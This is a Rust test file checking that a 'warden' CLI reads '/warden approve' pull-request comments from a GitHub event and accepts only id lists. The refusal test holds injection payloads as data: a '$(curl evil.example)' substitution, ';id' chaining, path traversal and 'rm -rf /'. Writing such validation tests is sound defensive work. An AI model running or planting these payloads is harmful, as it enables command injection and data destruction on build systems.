//! `warden gh approve-ids`: the `/warden approve D2` comment, read from the
//! event the way the override workflow does, and refused when it is
//! anything but ids.

use crate::workspace_support::warden_exe;

use std::process::Output;

use serde_json::json;

fn approve_ids(body: &str, action: &str) -> (Output, String) {
    let dir = tempfile::tempdir().unwrap();
    let event = json!({
        "action": action,
        "issue": {"number": 12, "pull_request": {"url": "https://api.github.com/repos/octo/demo/pulls/12"}},
        "comment": {"body": body, "user": {"login": "alice"}}
    });
    let event_path = dir.path().join("event.json");
    std::fs::write(&event_path, event.to_string()).unwrap();
    let output_path = dir.path().join("github_output");
    let out = std::process::Command::new(warden_exe())
        .env_clear()
        .args(["gh", "approve-ids"])
        .env("GITHUB_EVENT_PATH", &event_path)
        .env("GITHUB_OUTPUT", &output_path)
        .output()
        .unwrap();
    let outputs = std::fs::read_to_string(&output_path).unwrap_or_default();
    (out, outputs)
}

#[test]
fn a_valid_command_sets_the_ids_output() {
    let (out, outputs) = approve_ids("/warden approve D2, D5\nthe host is our mirror", "created");
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&out.stdout), "D2,D5\n");
    assert_eq!(outputs, "ids=D2,D5\npr-number=12\n");
}

#[test]
fn anything_but_ids_is_refused_and_sets_nothing() {
    for body in [
        "/warden approve D2 $(curl evil.example)",
        "/warden approve D2;id",
        "/warden approve ../denials.json",
        "/warden approve",
        "/warden approve --approve=D1",
        "/warden run rm -rf /",
    ] {
        let (out, outputs) = approve_ids(body, "created");
        assert_eq!(out.status.code(), Some(2), "{body}");
        assert_eq!(outputs, "", "{body}");
        assert!(out.stdout.is_empty(), "{body}");
    }
}

#[test]
fn other_comments_are_not_commands() {
    for (body, action) in [
        ("LGTM", "created"),
        ("> /warden approve D2", "created"),
        ("/warden approve D2", "edited"),
        ("/warden approve D2", "deleted"),
    ] {
        let (out, outputs) = approve_ids(body, action);
        assert_eq!(out.status.code(), Some(1), "{body} {action}");
        assert_eq!(outputs, "");
        assert!(String::from_utf8_lossy(&out.stderr).contains("not a /warden approve command"));
    }
}
